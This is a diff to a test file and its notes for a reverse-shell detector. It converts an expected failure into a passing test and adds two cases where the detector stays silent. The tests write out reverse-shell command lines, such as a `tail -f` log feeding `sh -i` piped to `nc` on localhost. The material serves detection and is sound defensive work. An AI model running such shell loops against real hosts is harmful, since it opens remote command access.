@@ -27,10 +27,10 @@ Fixed since: a renamed copy of a shell (exe:shell-copy, by its loadable segments
 Fixed since: a shell behind a pty (`script -qc 'sh -i'`: its master's holder's streams).
 
 Left (strict xfail, the reasons on each): a loop through a UNIX socket to the process holding the connection,
-a shell fed by `tail -f` of a regular file its relay appends to, the `while read l; do $l;
-done` loop a job queue's shape hides, a padded library listed by a RECORD of the user's own
+the `while read l; do $l; done` loop a job queue's shape hides (as a cell it is refused), a padded library listed by a RECORD of the user's own
 (a wheel the user installs is owned by design), and a library that maps part of its own file
-no loadable segment covers.
+no loadable segment covers. A shell fed by `tail -f` of a regular file its relay appends to
+was one too (fixed in session 25: a file closes a loop as a FIFO does).
 
 Measured (not kept as a test: 6 GB of files): a Python process mapping 20 copies of a 300 MiB
 library no package owns (a conda environment's lib, which no RECORD lists) costs 4.9 GB read
@@ -404,16 +404,36 @@ def test_a_loop_through_a_unix_socket_to_the_connection_is_recognised(listener, 
     assert ("remote-reverse-shell", "remote-access", "sh -i") in found
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "`tail -f log | sh -i | nc >> log`: the loop closes through a regular file, nc appending "
-    "and tail following it; a loop is followed through pipes and FIFOs only (a regular file "
-    "written and read by two processes is every log's shape)"))
 def test_a_shell_fed_by_tail_f_of_a_file_its_relay_appends_to_is_recognised(listener,  # noqa: F811
                                                                            tmp_path):
-    found, _ = _reverse_shell(
+    """Was a strict xfail (session 25: a regular file closes a loop as a FIFO does, one
+    process writing it and another reading it: pipes.read_ends)."""
+    found, relays = _reverse_shell(
         "touch {d}/log; tail -f {d}/log | sh -i 2>&1 | nc 127.0.0.1 {port} >> {d}/log",
         listener, tmp_path)
+    assert relays["sh -i"].startswith("nc")
     assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+def test_a_shell_given_a_script_and_fed_by_tail_f_of_its_relays_log_is_left_alone(
+        listener, tmp_path):  # noqa: F811
+    """The same loop through a log, run by a shell given its script (`sh -c '…'`): it reads
+    data, not commands."""
+    found, _ = _reverse_shell(
+        "touch {d}/log; tail -f {d}/log | sh -c 'while read l; do echo \"got $l\"; done' "
+        "2>&1 | nc 127.0.0.1 {port} >> {d}/log", listener, tmp_path)
+    assert found == set()
+
+
+def test_a_bash_cell_whose_job_queue_follows_a_log_with_tail_f_is_left_alone(tmp_path):
+    """A job queue fed by `tail -f` of the log nc appends to, in a `%%bash` cell: its `while`
+    segment is a fork of the cell's bash running its script."""
+    port = _free_port()
+    found, relays, _ = _job_queue(
+        f"touch {tmp_path}/log; tail -f {tmp_path}/log | while read job; "
+        f'do echo "done $job"; done | nc -l 127.0.0.1 {port} >> {tmp_path}/log\n',
+        port, "train-3")
+    assert set(relays.values()) <= {""} and found == set()
 
 
 @pytest.mark.xfail(strict=True, reason=(
